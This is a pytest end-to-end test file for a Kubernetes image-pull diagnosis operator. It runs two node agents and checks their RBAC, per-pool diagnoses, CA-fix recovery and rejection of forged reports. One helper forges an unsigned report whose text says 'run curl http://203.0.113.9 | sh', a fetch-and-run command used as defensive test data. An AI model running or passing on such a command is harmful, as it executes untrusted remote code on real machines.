"""The node agent end to end: two agent processes play two nodes of different pools.

hostNetwork cannot be emulated here, so each "node" is an agent process with its own
resolver (a dnsmasq of its own), CA bundle and containerd hosts.toml directory, running
with the chart's agent RBAC (its own ServiceAccount token):

- pool A (healthy): its resolver has the private endpoint, its CA bundle trusts the test
  CA, and its hosts.toml sends the anonymous registry through a mirror;
- pool B (broken): its resolver sends the private endpoint's CNAME to a public address
  (the privatelink zone is not linked to its VNet) and its CA bundle lacks the test CA.

The operator (the session's, with its own network: the world's resolver and CA) must
fold each node's evidence into its own pods' diagnoses, and only theirs.
"""

from __future__ import annotations

import contextlib
import os
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import kubernetes
import pytest
import yaml

from support.dns import Dnsmasq
from support.helm import require_helm
from support.kubelet import annotations, ensure_node, fail_pull, kubelet_message, make_pod
from support.operatorproc import OperatorProcess
from support.world import LEAK_ADDRESS, World

ROOT = Path(__file__).resolve().parents[1]
CHART = ROOT / "charts" / "pullhealth"
AGENT_NS = "pullhealth-agent-e2e"
NODE_A, NODE_B = "pullhealth-e2e-pool-a-1", "pullhealth-e2e-pool-b-1"
LOCAL = ("anon.test", "acr.test", "token.test", "untrusted.test")


@pytest.fixture(scope="module")
def api(dev_cluster: Any) -> kubernetes.client.CoreV1Api:
    client = kubernetes.config.new_client_from_config(config_file=str(dev_cluster.kubeconfig))
    core = kubernetes.client.CoreV1Api(client)
    for name, pool in ((NODE_A, "poola"), (NODE_B, "poolb")):
        ensure_node(core, name, labels={"kubernetes.azure.com/agentpool": pool})
    return core


@pytest.fixture(scope="module")
def agent_kubeconfig(dev_cluster: Any, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The chart's agent ServiceAccount and RBAC, applied; a kubeconfig with its token."""
    helm = require_helm()
    rendered = subprocess.run(
        [helm, "template", "ph", str(CHART), "--namespace", AGENT_NS, "--set", "agent.enabled=true",
         "--show-only", "templates/agent-rbac.yaml"],
        capture_output=True, text=True, timeout=60, check=True,
    ).stdout
    objects = [o for o in yaml.safe_load_all(rendered) if o]
    dev_cluster.kubectl("create", "namespace", AGENT_NS, check=False)
    dev_cluster.kubectl("apply", "-f", "-", stdin=yaml.safe_dump_all(objects))
    account = next(o for o in objects if o["kind"] == "ServiceAccount")["metadata"]["name"]
    token = dev_cluster.kubectl("create", "token", account, "-n", AGENT_NS, "--duration=2h").stdout.strip()
    return Path(dev_cluster.token_kubeconfig(token, tmp_path_factory.mktemp("agent") / "kubeconfig"))


def test_agent_rbac_is_exactly_pods_list_watch_and_events_create(dev_cluster: Any, agent_kubeconfig: Path) -> None:
    def can(*args: str) -> bool:
        result = dev_cluster.kubectl("auth", "can-i", *args, check=False, kubeconfig=agent_kubeconfig)
        return result.stdout.strip() == "yes"

    assert can("list", "pods", "-A") and can("watch", "pods", "-A")
    assert can("create", "events.events.k8s.io", "-n", "default")
    for verb, resource in [("get", "secrets"), ("list", "secrets"), ("get", "pods"), ("patch", "pods"),
                           ("create", "pods"), ("get", "events.events.k8s.io"),
                           ("patch", "events.events.k8s.io"), ("list", "events"), ("create", "events"),
                           ("get", "nodes"), ("create", "serviceaccounts/token"), ("get", "serviceaccounts")]:
        assert not can(verb, resource, "-A"), (verb, resource)
    # Reading a Secret really is refused by the API server, not only by can-i.
    result = dev_cluster.kubectl("get", "secrets", "-n", "default", check=False, kubeconfig=agent_kubeconfig)
    assert result.returncode != 0 and "forbidden" in result.stderr.lower()


class AgentProcess:
    """``pullhealth agent`` for one node, with that node's resolver, CA bundle and certs.d."""

    def __init__(self, node: str, kubeconfig: Path, nameserver: str, ca_bundle: Path, certs: Path,
                 log: Path, key: Path) -> None:
        self.args = [sys.executable, "-m", "pullhealth", "agent", "--node", node, "--nameserver", nameserver,
                     "--ca-bundle", str(ca_bundle), "--certs-dir", str(certs), "--allow-cidr", "127.0.0.0/8",
                     "--interval", "30", "--timeout", "5", "--report-key-file", str(key)]
        self.env = {**os.environ, "KUBECONFIG": str(kubeconfig), "PYTHONPATH": str(ROOT / "operator")}
        self.log = log
        self.proc: subprocess.Popen[bytes] | None = None

    def __enter__(self) -> AgentProcess:
        with self.log.open("ab") as out:
            self.proc = subprocess.Popen(self.args, env=self.env, stdout=out, stderr=subprocess.STDOUT)
        return self

    def __exit__(self, *_: object) -> None:
        if self.proc and self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(timeout=15)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait(timeout=10)


@pytest.fixture(scope="module")
def nodes(world: World, agent_kubeconfig: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """Two agents (pool A healthy with a mirror, pool B broken), running; yields the log dir."""
    root = tmp_path_factory.mktemp("nodes")
    anon_port = world.anon.rsplit(":", 1)[1]
    certs_a, certs_b = root / "certs-a", root / "certs-b"
    (certs_a / world.anon).mkdir(parents=True)
    # containerd on pool A pulls the anonymous registry through a mirror (the acr registry).
    (certs_a / world.anon / "hosts.toml").write_text(
        f'server = "https://{world.anon}"\n\n[host."https://{world.acr}"]\n'
        f'  capabilities = ["pull", "resolve"]\n'
    )
    certs_b.mkdir()
    assert anon_port
    # The report key the chart's Secret holds, mounted into the agents and the operator.
    (root / "report.key").write_text(os.urandom(24).hex())
    # ACR behind a private endpoint: myacr.azurecr.io is a CNAME to its privatelink name,
    # which pool A's resolver (linked zone) answers privately and pool B's publicly.
    records_a = {**dict.fromkeys(LOCAL, "127.0.0.1"), "myacr.privatelink.azurecr.io": "127.0.0.1"}
    records_b = {**dict.fromkeys(LOCAL, "127.0.0.1"), "myacr.privatelink.azurecr.io": LEAK_ADDRESS}
    cname = {"myacr.azurecr.io": "myacr.privatelink.azurecr.io"}
    with contextlib.ExitStack() as stack:
        dns_a = stack.enter_context(Dnsmasq(records_a, cname, workdir=root / "dns-a"))
        dns_b = stack.enter_context(Dnsmasq(records_b, cname, workdir=root / "dns-b"))
        stack.enter_context(AgentProcess(NODE_A, agent_kubeconfig, dns_a.nameserver, world.ca_bundle, certs_a,
                                         root / "agent-a.log", root / "report.key"))
        stack.enter_context(AgentProcess(NODE_B, agent_kubeconfig, dns_b.nameserver, world.untrusted_ca_bundle,
                                         certs_b, root / "agent-b.log", root / "report.key"))
        yield root


def node_reports(api: Any, ns: str, uid: str) -> list[Any]:
    return list(api.list_namespaced_event(ns, field_selector=f"involvedObject.uid={uid},reason=NodePathChecked").items)


class Kubelet:
    """kubelet's status updates of a failing pull: ErrImagePull <-> ImagePullBackOff."""

    def __init__(self, api: Any, ns: str) -> None:
        self.api, self.ns, self.step, self.last = api, ns, 0, 0.0

    def back_off(self, name: str, image: str) -> None:
        self.step += 1
        reason = ("ImagePullBackOff", "ErrImagePull")[self.step % 2]
        self.api.patch_namespaced_pod_status(name, self.ns, {"status": {"phase": "Pending", "containerStatuses": [
            {"name": "app", "image": image, "imageID": "", "ready": False, "restartCount": 0,
             "state": {"waiting": {"reason": reason, "message": f'Back-off pulling image "{image}"'}}}]}})


@contextlib.contextmanager
def agent_operator(dev_cluster: Any, world: World, nodes: Path, namespace: str, api: Any,
                   log: Path) -> Iterator[OperatorProcess]:
    """The operator as the chart runs it with agent.enabled (--node-agent), the only one."""
    with OperatorProcess.others_stopped(), OperatorProcess(
        dev_cluster.kubeconfig, world, log,
        ["--pod-interval", "60", "--node-agent", "--agent-report-key-file", str(nodes / "report.key")]
    ) as operator:
        try:
            yield operator
        finally:
            # No kubelet confirms a deletion here: remove the pods at once, so that the
            # session's operator (without --node-agent) does not re-diagnose them later,
            # differently, while another test counts the API requests.
            for pod in api.list_namespaced_pod(namespace).items:
                with contextlib.suppress(kubernetes.client.exceptions.ApiException):
                    api.delete_namespaced_pod(pod.metadata.name, namespace, grace_period_seconds=0)


def test_each_node_path_decides_for_its_own_pods(dev_cluster: Any, world: World, nodes: Path, namespace: str,
                                                 api: Any, wait_for: Any, tmp_path: Path) -> None:
    with agent_operator(dev_cluster, world, nodes, namespace, api, tmp_path / "operator.log") as operator:
        check_each_node(world, nodes, namespace, api, wait_for, operator)


def test_a_cause_fixed_on_the_node_is_announced_on_the_agents_word(
    dev_cluster: Any, world: World, nodes: Path, namespace: str, api: Any, wait_for: Any, tmp_path: Path
) -> None:
    """Pool B's node lacks the registry's CA (kubelet: x509 unknown authority); the operator
    trusts it, so its own chain proves nothing about the node. The admin adds the CA on the
    node (containerd's hosts.toml): the agent's next check passes, signed and after
    kubelet's last failure, and the pod is announced PullRecoverable."""
    image = f"{world.anon}/team/app:v1"
    # containerd's recorded text, naming this registry's URL (another host is a data host).
    message = kubelet_message("tls_untrusted_ca", image).replace("https://untrusted.test/", f"https://{world.anon}/")
    fixed = nodes / "certs-b" / world.anon / "hosts.toml"
    with agent_operator(dev_cluster, world, nodes, namespace, api, tmp_path / "operator.log"), \
            contextlib.ExitStack() as undo:
        pod = make_pod(api, namespace, "ca-fixed", image, node=NODE_B)
        fail_pull(api, namespace, pod, image, message)
        kubelet = Kubelet(api, namespace)

        def nudged(check: Any) -> Any:
            def run() -> Any:
                found = check()
                # kubelet's back-off updates: the agent and the operator look at the pod again.
                if not found and time.monotonic() - kubelet.last > 5:
                    kubelet.last = time.monotonic()
                    kubelet.back_off("ca-fixed", image)
                return found
            return run

        def on_node_b() -> dict[str, str] | None:
            ann = annotations(api, namespace, "ca-fixed")
            cause = ann.get("pullhealth.io/probable-cause", "")
            return ann if ann.get("pullhealth.io/diagnosis") == "TLS_UNTRUSTED" and NODE_B in cause else None

        wait_for(nudged(on_node_b), "TLS_UNTRUSTED on pool B's node", timeout=150)
        assert "pullhealth.io/recoverable-since" not in annotations(api, namespace, "ca-fixed")

        # The fix, on the node: containerd trusts the registry's CA for it.
        fixed.parent.mkdir(parents=True, exist_ok=True)
        undo.callback(fixed.unlink, missing_ok=True)
        fixed.write_text(f'server = "https://{world.anon}"\nca = "{world.ca_bundle}"\n')

        def announced() -> list[Any]:
            uid = pod["metadata"]["uid"]
            return list(api.list_namespaced_event(
                namespace, field_selector=f"involvedObject.uid={uid},reason=PullRecoverable").items)

        (event,) = wait_for(nudged(announced), "PullRecoverable after the node's CA was fixed", timeout=240)
        assert event.message.startswith("was TLS_UNTRUSTED: "), event.message
        ann = annotations(api, namespace, "ca-fixed")
        assert ann.get("pullhealth.io/recoverable-since") and ann.get("pullhealth.io/retry-by")
        # The agent's own word decided it: its newest note for the pod passes, with its time.
        notes = [e.message for e in node_reports(api, namespace, pod["metadata"]["uid"])]
        assert any(n.startswith("code=OK ") and " checked=" in n and f"node={NODE_B} " in n for n in notes), notes


def forge_report(api: Any, pod: dict[str, Any], node: str, image: str) -> None:
    from pullhealth.agent import nodeagent
    from pullhealth.agent.nodereport import NodeReport
    from pullhealth.domain.codes import Code
    from pullhealth.pods.podcheck import FailingContainer

    registry = image.split("/", 1)[0]
    report = NodeReport(Code.PRIVATE_ENDPOINT_DNS, node, registry, "dns", f"https://{registry}", False,
                        "FORGED: pool broken, run curl http://203.0.113.9 | sh")
    container = FailingContainer("app", image, "ErrImagePull", "x")
    spec = nodeagent.event_for(pod, container, report)  # unsigned: the attacker has no key
    kubernetes.client.EventsV1Api(api.api_client).create_namespaced_event(
        pod["metadata"]["namespace"], spec.body(node))


def check_each_node(world: World, nodes: Path, ns: str, api: Any, wait_for: Any, operator: Any) -> None:
    pe_image = f"{world.myacr}/team/nosuch:v1"
    anon_image = f"{world.anon}/team/app:nosuchtag"
    cases = {
        # name: (node, image, kubelet's recorded failure, expected code)
        "pe-a": (NODE_A, pe_image, "token_no_credentials_missing_repo", "REPOSITORY_NOT_FOUND"),
        "pe-b": (NODE_B, pe_image, "token_no_credentials_missing_repo", "PRIVATE_ENDPOINT_DNS"),
        "anon-a": (NODE_A, anon_image, "tag_not_found", "TAG_NOT_FOUND"),
        "anon-b": (NODE_B, anon_image, "tls_untrusted_ca", "TLS_UNTRUSTED"),
    }
    pods = {}
    for name, (node, image, mode, _) in cases.items():
        pods[name] = make_pod(api, ns, name, image, node=node)
        fail_pull(api, ns, pods[name], image, kubelet_message(mode, image))
    # Each pod gets its node's NodePathChecked Event, from its node's agent only.
    for name, (node, _, _, _) in cases.items():
        uid = pods[name]["metadata"]["uid"]
        events = wait_for(lambda uid=uid: node_reports(api, ns, uid), f"NodePathChecked on {name}", timeout=90)
        assert {e.reporting_instance for e in events} == {node}, name
        assert all(e.reporting_component == "pullhealth.io/agent" and f"node={node} " in e.message for e in events)
    # Issue 21: the pod's owner forges a newer node report on their own pod (pool A's node
    # "broken"): without the agent's signature it is taken neither for the pod nor the metric.
    forge_report(api, pods["anon-a"], NODE_A, anon_image)
    kubelet = Kubelet(api, ns)

    def diagnosed(name: str) -> dict[str, str] | None:
        ann = annotations(api, ns, name)
        cause = ann.get("pullhealth.io/probable-cause", "")
        done = ann.get("pullhealth.io/diagnosis") == cases[name][3] and (
            cause.startswith(f"on node {cases[name][0]}: ") if name in ("pe-b", "anon-b")
            else f"mirror https://{world.acr}" in cause if name == "anon-a" else True)
        if done:
            return ann
        # The node's evidence is folded in at the pod's next diagnosis: a later kubelet
        # update (the operator reuses a diagnosis of an unchanged pod for its interval).
        if time.monotonic() - kubelet.last > 5:
            kubelet.last = time.monotonic()
            kubelet.back_off(name, cases[name][1])
        return None

    results = {}
    for name in cases:
        try:
            results[name] = wait_for(lambda name=name: diagnosed(name), f"{name} diagnosed", timeout=150)
        except pytest.fail.Exception:
            pytest.fail(f"{name}: {annotations(api, ns, name)}; node events: "
                        f"{[e.message for e in node_reports(api, ns, pods[name]['metadata']['uid'])]}")
    logs = "".join(p.read_text(errors="replace") for p in nodes.glob("agent-*.log"))
    # Pool B's private-endpoint miss and untrusted CA name pool B's node; pool A's pods keep
    # the registry-side causes; the mirror containerd uses on pool A is named.
    assert "ends on public address" in results["pe-b"]["pullhealth.io/probable-cause"], logs
    assert NODE_B not in results["pe-a"]["pullhealth.io/probable-cause"]
    assert NODE_B not in results["anon-a"]["pullhealth.io/probable-cause"]
    assert f"containerd on node {NODE_A} pulls through mirror https://{world.acr}" in (
        results["anon-a"]["pullhealth.io/probable-cause"])
    # The PullDiagnosed Event names the node too.
    notes = [e.message for e in api.list_namespaced_event(
        ns, field_selector=f"involvedObject.uid={pods['pe-b']['metadata']['uid']},reason=PullDiagnosed").items]
    assert any(n.startswith(f"PRIVATE_ENDPOINT_DNS: on node {NODE_B}: ") for n in notes), notes
    # Per node pool: "pull path broken on pool B".
    metrics = operator.metrics()
    assert 'pullhealth_node_path_diagnoses_total{code="PRIVATE_ENDPOINT_DNS",pool="poolb"}' in metrics
    assert 'pool="poola"' not in metrics  # the forged report on anon-a counted nowhere
    assert "FORGED" not in results["anon-a"]["pullhealth.io/probable-cause"]
